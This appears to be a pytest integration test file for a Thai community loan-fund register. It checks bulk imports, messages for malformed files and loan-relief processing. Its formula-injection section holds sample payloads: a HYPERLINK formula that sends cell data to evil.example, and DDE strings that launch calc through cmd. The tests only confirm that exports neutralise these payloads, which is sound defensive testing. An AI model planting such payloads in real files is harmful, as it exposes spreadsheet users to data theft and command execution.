"""The bulk import writes what the per-row functions write; big, hostile or odd files get one
clear message each; exports never hand a spreadsheet a formula."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

import models
from bot.export_safety import TRIGGERS, csv_text, neutralise, safe_record, write_xlsx
from models.area import ensure_area, ensure_province
from models.audit import Actor, AuditEntry, audit
from models.borrower import resolve_borrower
from models.fund import Fund
from models.ledger import record_payment
from models.register_import import import_register
from models.register_import.columns import map_headers
from models.register_import.reading import SheetRow, read_sheet
from models.register_import.rows import RowChecker
from models.schedule import create_contract
from models.types import FundKind, PaymentChannel, Source
from tests.integration.test_import import KEYS, NID2, table_counts, thai_row, write_csv

TODAY = date(2026, 3, 15)
SECRET = "test-secret"
# Timestamps differ between two runs; everything else must not.
VOLATILE = {"created_at", "at"}


def _rows() -> list[dict]:
    """Both funds, repeat borrowers (by ID and by name), part payments and a paid-off loan."""
    return [
        thai_row(paid_to_date="1,500"),
        thai_row(contract_no="ส.002/2566", paid_to_date="12,100"),  # into the interest
        thai_row(
            contract_no="ส.003/2566",
            borrower_name="นายสมชาย ทองดี",
            national_id=NID2,
            phone="0891112233",
            principal="5,000",
            annual_interest_rate="0",
            installments="1",
            paid_to_date="5,000",  # paid off
        ),
        thai_row(
            fund="กข.คจ.",
            contract_no="1/2565",
            borrower_name="นางมาลี ศรีสุข",
            national_id="",
            phone="",
            village="หมู่ 7",
            annual_interest_rate="0",
            installments="3",
            frequency="รายปี",
            paid_to_date="4,000",
        ),
        thai_row(
            fund="กข.คจ.",
            contract_no="2/2565",
            borrower_name="มาลี ศรีสุข",  # the same person, found by name in the village
            national_id="",
            phone="0812223333",
            village="7",
            annual_interest_rate="0",
            installments="2",
            frequency="รายปี",
        ),
    ]


def _per_row(db, path: Path) -> None:
    """The reference: each row through the audited per-row domain functions."""
    sheet = list(read_sheet(path))
    headers, problems = map_headers(sheet[0].cells)
    assert not problems
    checker = RowChecker(headers, province="สระบุรี", today=TODAY)
    actor = Actor(f"import:{path.name}", Source.IMPORT)
    funds: dict[tuple, Fund] = {}
    with db.session() as session:
        for sheet_row in sheet[1:]:
            row, problems = checker.check(sheet_row)
            assert not problems
            village = ensure_area(session, row.province, row.district, row.subdistrict, row.village)
            if row.fund_key not in funds:
                if row.fund_kind is FundKind.WOMENS_FUND:
                    area = ensure_province(session, row.province)
                    name = f"กองทุนพัฒนาบทบาทสตรีจังหวัด{row.province}"
                else:
                    area, name = village, f"กข.คจ. {village.path}"
                fund = Fund(kind=row.fund_kind, name=name, area=area)
                session.add(fund)
                session.flush()
                after = {"kind": row.fund_kind, "name": name, "area": area.path}
                audit(session, actor, "fund.create", "fund", fund.id, after=after)
                funds[row.fund_key] = fund
            borrower, _outcome = resolve_borrower(
                session,
                actor,
                secret_key=SECRET,
                kind=row.borrower_kind,
                name=row.borrower_name,
                phone=row.phone,
                national_id=row.national_id,
                village=village,
                locale="th",
            )
            contract = create_contract(
                session,
                actor,
                fund=funds[row.fund_key],
                borrower=borrower,
                contract_no=row.contract_no,
                principal=row.principal,
                annual_interest_rate=row.annual_interest_rate,
                contract_date=row.contract_date,
                first_due_date=row.first_due_date,
                installment_count=row.installments,
                frequency=row.frequency,
            )
            if row.paid_to_date:
                record_payment(
                    session, actor, contract, row.paid_to_date, TODAY, PaymentChannel.IMPORT
                )


# Kept figures, invalidated differently (per area by the ORM, everywhere by the bulk loader).
CACHES = {"arrears_snapshot", "arrears_area_version"}


def _dump(db) -> dict[str, list]:
    """Every table's rows without timestamps; the audit log without its ids, in id order."""
    dump = {}
    with db.engine.connect() as connection:
        for table in models.Base.metadata.sorted_tables:
            if table.name in CACHES:
                continue
            columns = [c for c in table.c if c.name not in VOLATILE]
            if table.name == "audit_log":
                columns = [c for c in columns if c.name != "id"]
            order = table.c.id if "id" in table.c else columns[0]
            rows = connection.execute(select(*columns).order_by(order)).all()
            dump[table.name] = [tuple(row) for row in rows]
    return dump


def _audit_set(dump: dict) -> list:
    return sorted(map(repr, dump.pop("audit_log")))


def test_bulk_import_writes_the_rows_the_per_row_functions_write(db, tmp_path):
    from tests.conftest import _empty_tables

    path = write_csv(tmp_path / "register.csv", _rows())
    _per_row(db, path)
    expected = _dump(db)
    _empty_tables(db)

    result = import_register(
        db, path, province="สระบุรี", secret_key=SECRET, today=TODAY, locale="th"
    )

    assert result.ok, result.problems
    assert (result.created, result.updated, result.unchanged) == (5, 0, 0)
    got = _dump(db)
    assert len(got["audit_log"]) == len(expected["audit_log"]) > 15
    assert _audit_set(got) == _audit_set(expected)
    assert got == expected
    assert {row.status for row in db.sessions().scalars(select(models.Contract))} == {
        "active",
        "paid_off",
    }


def test_a_dry_run_of_a_new_register_writes_nothing_and_counts(db, tmp_path):
    path = write_csv(tmp_path / "register.csv", _rows())

    result = import_register(
        db, path, province="สระบุรี", secret_key=SECRET, today=TODAY, locale="th", dry_run=True
    )

    assert (result.created, result.updated, result.unchanged) == (5, 0, 0)
    assert set(table_counts(db).values()) == {0}


def test_re_import_after_a_bulk_import_changes_nothing_and_a_higher_payment_is_bulk_too(
    db, tmp_path
):
    rows = _rows()
    path = write_csv(tmp_path / "register.csv", rows)
    assert import_register(
        db, path, province="สระบุรี", secret_key=SECRET, today=TODAY, locale="th"
    ).ok
    before = table_counts(db)

    again = import_register(db, path, province="สระบุรี", secret_key=SECRET, today=TODAY, locale="th")

    assert (again.created, again.updated, again.unchanged) == (0, 0, 5)
    assert table_counts(db) == before
    rows[0]["paid_to_date"] = "3,000"
    more = write_csv(tmp_path / "more.csv", rows)
    third = import_register(db, more, province="สระบุรี", secret_key=SECRET, today=TODAY, locale="th")
    assert (third.created, third.updated, third.unchanged) == (0, 1, 4)
    with db.sessions() as s:
        entry = s.scalars(
            select(AuditEntry)
            .where(AuditEntry.action == "payment.record")
            .order_by(AuditEntry.id.desc())
        ).first()
        assert entry.after["amount"] == "1500.00" and entry.actor == "import:more.csv"
        paid = sum(
            i.principal_paid + i.interest_paid
            for c in s.scalars(
                select(models.Contract).where(models.Contract.contract_no == "ส.001/2566")
            )
            for i in c.installments
        )
        assert paid == Decimal("3000.00")


# ---------------------------------------------------------------------------- odd files


def test_a_huge_csv_cell_and_a_nul_byte_are_one_clear_message_each(db, cli, tmp_path):
    huge = thai_row(contract_no="ส.2", borrower_name="ก" * 131_073)
    nul = thai_row(contract_no="ส.3", borrower_name="นางสม\x00ศรี")
    path = write_csv(tmp_path / "odd.csv", [thai_row(), huge, nul])

    result = cli("import", str(path))

    assert result.exit_code == 1
    assert "Traceback" not in result.output
    lines = result.stderr.splitlines()
    assert len(lines) == 3, lines
    assert "3" in lines[1] and "ชื่อผู้กู้" in lines[1] and "200" in lines[1]
    assert len(lines[1]) < 300  # the value is quoted cut short
    assert "4" in lines[2] and "ชื่อผู้กู้" in lines[2] and "NUL" in lines[2]
    assert set(table_counts(db).values()) == {0}


def test_a_cell_beyond_what_csv_reads_is_a_row_message(db, cli, tmp_path):
    path = write_csv(tmp_path / "odd.csv", [thai_row(borrower_name="ก" * 1_000_001)])

    result = cli("import", str(path))

    assert result.exit_code == 1
    assert "Traceback" not in result.output
    assert "แถว 2" in result.stderr and "1000000" in result.stderr


def test_a_file_beyond_the_row_limit_is_refused_before_it_is_read_whole(db, tmp_path):
    path = write_csv(tmp_path / "big.csv", [thai_row(contract_no=f"ส.{n}") for n in range(20)])

    result = import_register(
        db, path, province="สระบุรี", secret_key=SECRET, today=TODAY, locale="th", max_rows=10
    )

    assert not result.ok
    (problem,) = result.file_problems
    assert problem.code == "import_too_many_rows" and problem.params["max"] == 10
    assert set(table_counts(db).values()) == {0}


def test_the_cli_words_the_row_limit(db, cli, tmp_path, monkeypatch):
    import models.register_import.reading as reading

    monkeypatch.setattr(reading, "MAX_ROWS", 5)
    path = write_csv(tmp_path / "big.csv", [thai_row(contract_no=f"ส.{n}") for n in range(9)])

    result = cli("import", str(path))

    assert result.exit_code == 1
    assert "big.csv" in result.stderr and "5" in result.stderr
    assert "Traceback" not in result.output


def test_xlsx_rows_are_streamed(tmp_path):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for n in range(5):
        sheet.append([n, f"row {n}"])
    path = tmp_path / "s.xlsx"
    workbook.save(path)

    rows = read_sheet(path)

    assert not isinstance(rows, list)
    assert next(rows) == SheetRow(1, [0, "row 0"])


# ---------------------------------------------------------------------------- formula injection

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_every_formula_trigger_is_neutralised_in_csv_and_xlsx(trigger, tmp_path):
    value = f"{trigger}1+1"
    assert neutralise(value) == "'" + value
    text = csv_text(["name", "amount"], [{"name": value, "amount": "-12.50"}], numeric=["amount"])
    (row,) = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row == {"name": "'" + value, "amount": "-12.50"}

    path = tmp_path / "export.xlsx"
    write_xlsx(path, ["name", "amount"], [{"name": value, "amount": "-12.50"}], numeric=["amount"])
    sheet = openpyxl.load_workbook(path).active
    name, amount = sheet["A2"], sheet["B2"]
    # A CR is written as the OOXML escape "_x000D_", which Excel reads as a CR (openpyxl
    # leaves the escape as it is).
    assert name.data_type == "s"
    assert name.value == "'" + value.replace("\r", "_x000D_")
    assert amount.data_type == "n" and amount.value == -12.5


def test_numbers_stay_numbers_and_harmless_text_stays_as_it_is():
    record = {"name": "สมศรี", "amount": "-1234.50", "days": 3, "bucket": "1-30"}
    assert safe_record(record, numeric=["amount", "days"]) == record
    assert safe_record({"amount": "=1+1"}, numeric=["amount"]) == {"amount": "'=1+1"}


def test_a_hostile_register_imports_and_its_csv_export_is_inert(db, cli, tmp_path):
    rows = [
        thai_row(contract_no=f"ส.{n}", borrower_name=name, national_id="")
        for n, name in enumerate(HOSTILE)
    ]
    rows[0]["contract_no"] = "=1+2"
    assert cli("import", str(write_csv(tmp_path / "hostile.csv", rows))).exit_code == 0

    result = cli("arrears", "--as-of", "2026-03-15", "--format", "csv", "--raw")
    excel = cli("arrears", "--as-of", "2026-03-15", "--format", "csv")

    assert result.exit_code == 0, result.output
    # The file for Excel (Thai, with a totals row): no cell a spreadsheet would run.
    cells = [cell for line in csv.reader(io.StringIO(excel.stdout)) for cell in line]
    assert "'" + HOSTILE[0] in cells and not any(c.startswith(TRIGGERS) for c in cells)
    records = list(csv.DictReader(result.stdout.splitlines()))
    assert len(records) == len(HOSTILE)
    for record in records:
        for key in ("contract_no", "borrower_name", "area", "fund"):
            assert not record[key].startswith(TRIGGERS), record
    names = {r["borrower_name"] for r in records}
    assert "'" + HOSTILE[0] in names
    assert any(r["contract_no"] == "'=1+2" for r in records)
    assert all(Decimal(r["outstanding_principal"]) > 0 for r in records)


# ---------------------------------------------------------------------------- relief in bulk


def _loan_story(db, *, bulk: bool) -> None:
    """One loan: a payment, a moratorium, a restructuring, a payment, then paying it off
    with money to spare; through the per-row functions or the bulk loader."""
    from models.borrower import find_or_create_borrower
    from models.bulk_load import Book
    from models.relief_rules import add_moratorium, restructure
    from models.types import BorrowerKind, Frequency

    actor = Actor("officer", Source.CLI)
    with db.session() as session:
        village = ensure_area(session, "สระบุรี", "แก่งคอย", "หินซ้อน", "3")
        fund = Fund(kind=FundKind.WOMENS_FUND, name="กองทุน", area=village)
        session.add(fund)
        session.flush()
        borrower = find_or_create_borrower(
            session,
            actor,
            secret_key=SECRET,
            kind=BorrowerKind.PERSON,
            name="นางสมศรี ใจดี",
            phone=None,
            national_id=None,
            village=village,
            locale="th",
        )
        terms = dict(
            contract_no="R-1",
            principal=Decimal("12000"),
            annual_interest_rate=Decimal("3"),
            contract_date=date(2024, 1, 31),
            first_due_date=date(2024, 2, 29),
            installment_count=12,
            frequency=Frequency.MONTHLY,
        )
        story = [
            ("pay", Decimal("2100"), date(2024, 4, 1), PaymentChannel.CASH_OFFICER),
            ("moratorium", 1, date(2024, 5, 1), date(2024, 10, 31)),
            ("restructure", 6, date(2025, 2, 28), Decimal("1"), date(2025, 1, 10)),
            ("pay", Decimal("500"), date(2025, 3, 3), PaymentChannel.OFFICE),
            ("pay", Decimal("20000"), date(2025, 4, 1), PaymentChannel.BANK_TRANSFER),
        ]
        if bulk:
            book = Book(session, actor)
            contract = book.add_contract(fund_id=fund.id, borrower_id=borrower.id, **terms)
            pay, moratorium, restructured = book.pay, book.add_moratorium, book.restructure
        else:
            contract = create_contract(session, actor, fund=fund, borrower=borrower, **terms)

            def pay(contract, amount, day, channel):
                record_payment(session, actor, contract, amount, day, channel)

            def moratorium(contract, **values):
                add_moratorium(session, actor, contract, **values)

            def restructured(contract, **values):
                restructure(session, actor, contract, **values)

        for step, *values in story:
            if step == "pay":
                pay(contract, *values)
            elif step == "moratorium":
                round_no, start, end = values
                moratorium(contract, round_no=round_no, start=start, end=end)
            else:
                count, first_due, rate, effective = values
                restructured(
                    contract,
                    installments=count,
                    first_due=first_due,
                    rate=rate,
                    effective=effective,
                )
        if bulk:
            book.write()


def test_bulk_payments_and_relief_write_the_rows_the_per_row_functions_write(db):
    from tests.conftest import _empty_tables

    _loan_story(db, bulk=False)
    expected = _dump(db)
    _empty_tables(db)

    _loan_story(db, bulk=True)

    got = _dump(db)
    assert len(got["relief_measure"]) == 2 and len(got["payment"]) == 3
    assert _audit_set(got) == _audit_set(expected)
    assert got == expected


def test_an_xlsx_beyond_the_row_limit_is_refused_by_its_size(db, tmp_path):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(KEYS)
    for n in range(20):
        sheet.append([thai_row(contract_no=f"ส.{n}")[key] for key in KEYS])
    path = tmp_path / "big.xlsx"
    workbook.save(path)

    result = import_register(
        db, path, province="สระบุรี", secret_key=SECRET, today=TODAY, locale="th", max_rows=10
    )

    assert [p.code for p in result.file_problems] == ["import_too_many_rows"]
    assert set(table_counts(db).values()) == {0}


def test_the_demo_shows_its_progress_on_stderr(db, cli):
    result = cli("seed-demo", "--borrowers", "20", "--today", "15/3/2569")

    assert result.exit_code == 0, result.output
    stages = result.stderr.splitlines()
    assert len(stages) == 2 and stages[1] == "กำลังบันทึก", stages
